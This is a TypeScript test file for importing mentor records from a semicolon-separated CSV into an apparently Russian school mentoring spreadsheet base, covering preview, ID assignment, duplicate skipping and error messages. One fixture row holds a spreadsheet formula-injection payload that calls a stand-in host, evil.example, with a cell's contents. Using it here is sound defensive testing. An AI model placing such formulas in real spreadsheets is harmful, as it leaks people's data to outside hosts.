import { checkBase } from "../../src/app/checkBase";
import { importPeople, previewImport } from "../../src/app/importPeople";
import { initBase } from "../../src/app/initBase";
import { memoryPorts } from "../support/memory";

const FILE = [
  "ФИО;Категория;Стаж;Компетенции;Формы наставничества;E-mail;Телефон;Согласие",
  "Петрова Анна Сергеевна;педагог;15;ОГЭ;педагог – педагог;petrova@s.ru;+7 914 123-45-67;да",
  "Орлова Вера Ивановна;педагог;пять;классное руководство;педагог – педагог;orlova@s.ru;;да",
  '=HYPERLINK("http://evil.example/?"&B2);педагог;3;x;педагог – педагог;evil@s.ru;;да',
].join("\r\n");

function school() {
  const m = memoryPorts();
  initBase(m.ports);
  return m;
}

describe("import from CSV (use case)", () => {
  test("preview guesses the matches and writes nothing", () => {
    const { ports, sheets } = school();
    const before = sheets.calls;
    const preview = previewImport(ports, "mentors", FILE);
    expect(preview.rowCount).toBe(3);
    expect(preview.mapping).toEqual([
      "fullName",
      "category",
      "experienceYears",
      "competencies",
      "forms",
      "email",
      "phone",
      "consent",
    ]);
    expect(preview.columns.find((c) => c.key === "fullName")).toEqual({
      key: "fullName",
      header: "ФИО",
      required: true,
    });
    expect(sheets.log.slice(before).some((m) => m.startsWith("write") || m === "appendRows")).toBe(false);
  });

  test("imports below what was typed, gives ids, and a second import of the same file adds nobody", () => {
    const { ports, sheets } = school();
    sheets.type("mentors", { id: "НС-0001", fullName: "Смирнова Ольга Петровна", email: "smirnova@s.ru" });
    const mapping = previewImport(ports, "mentors", FILE).mapping;
    const r = importPeople(ports, "mentors", FILE, mapping);
    expect(r).toMatchObject({
      tab: "Наставники",
      added: 3,
      firstRow: 3,
      lastRow: 5,
      idsAssigned: 3,
      skipped: [],
    });
    expect(sheets.cell("mentors", 2, "fullName").value).toBe("Смирнова Ольга Петровна");
    expect([3, 4, 5].map((row) => sheets.cell("mentors", row, "id").value)).toEqual([
      "НС-0002",
      "НС-0003",
      "НС-0004",
    ]);
    expect(sheets.cell("mentors", 3, "consent").value).toBe(true);
    expect(sheets.cell("mentors", 4, "competencies").value).toBe("классное руководство");

    const again = importPeople(ports, "mentors", FILE, mapping);
    expect(again.added).toBe(0);
    expect(again.skipped.map((s) => s.reason)).toEqual([
      "уже есть на листе (строка 3)",
      "уже есть на листе (строка 4)",
      "уже есть на листе (строка 5)",
    ]);

    const report = checkBase(ports)!;
    expect(
      report.problems.some(
        (p) => p.row === 4 && p.column === "experienceYears" && p.message.includes("«пять»"),
      ),
    ).toBe(true);
  });

  test("no base yet, a wrong column key, a busy lock: clear messages, nothing written", () => {
    const empty = memoryPorts();
    expect(() => previewImport(empty.ports, "mentors", FILE)).toThrow(
      "Сначала выполните «Наставничество → Создать / обновить базу»",
    );
    const { ports, lock, sheets } = school();
    expect(() => importPeople(ports, "mentors", FILE, ["id", null])).toThrow("Неизвестный столбец «id»");
    lock.busy = true;
    expect(() => importPeople(ports, "mentors", FILE, ["fullName"])).toThrow("Повторите импорт через минуту");
    expect(sheets.tabs.get("mentors")!.grid.length).toBe(1);
  });
});
